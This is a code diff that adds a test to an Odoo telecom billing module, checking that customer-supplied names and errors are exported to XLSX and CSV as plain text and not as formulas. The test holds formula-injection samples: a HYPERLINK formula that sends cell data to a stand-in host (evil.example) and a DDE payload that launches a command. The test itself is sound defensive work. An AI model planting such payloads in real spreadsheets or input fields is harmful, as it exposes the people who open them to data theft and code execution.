@@ -2,11 +2,16 @@
 # License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
 """Access rights of the bill-run models, multi-company rules, and the reports."""
 
+import io
+import zipfile
 from datetime import date
+
+import openpyxl
 
 from odoo.exceptions import AccessError
 from odoo.tests import TransactionCase, new_test_user, tagged
 
+from ..tools import spreadsheet
 from .billing_common import BillingFixtures
 
 
@@ -50,6 +55,30 @@ class TestBillingSecurityReports(BillingFixtures, TransactionCase):
         self.assertTrue(
             self.env["telecom.dunning.level"].with_user(self.billing_user).has_access("write")
         )
+
+    def test_summary_writes_text_never_formulas(self):
+        """Names and errors chosen by customers or networks stay text in the XLSX."""
+        hostile = {
+            "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+            "error": "@SUM(1+1)*cmd|' /C calc'!A0",
+        }
+        self.acc.partner_id.name = hostile["name"]
+        self.bill_run.line_ids.sudo().write({"error": hostile["error"]})
+        book = openpyxl.load_workbook(io.BytesIO(self.bill_run._telecom_summary_xlsx()))
+        cells = [cell for row in book.active.iter_rows() for cell in row if cell.value]
+        self.assertFalse([c.coordinate for c in cells if c.data_type == "f"])
+        texts = {c.value for c in cells if c.data_type == "s"}
+        self.assertIn(hostile["name"], texts)
+        self.assertIn(hostile["error"], texts)
+        with zipfile.ZipFile(io.BytesIO(self.bill_run._telecom_summary_xlsx())) as zf:
+            self.assertNotIn("<f>", zf.read("xl/worksheets/sheet1.xml").decode())
+        # the CSV side of the one helper: an apostrophe makes it text; numbers stay numbers
+        self.assertEqual(spreadsheet.csv_cell("=1+2"), "'=1+2")
+        self.assertEqual(spreadsheet.csv_cell("+32470000001"), "'+32470000001")
+        self.assertEqual(spreadsheet.csv_cell("-x"), "'-x")
+        self.assertEqual(spreadsheet.csv_cell("@x"), "'@x")
+        self.assertEqual(spreadsheet.csv_cell("plain"), "plain")
+        self.assertEqual(spreadsheet.csv_row([-1.5, 0, "a=b"]), [-1.5, 0, "a=b"])
 
     def test_multi_company(self):
         other = self.env["res.company"].create({"name": "Other Telco"})
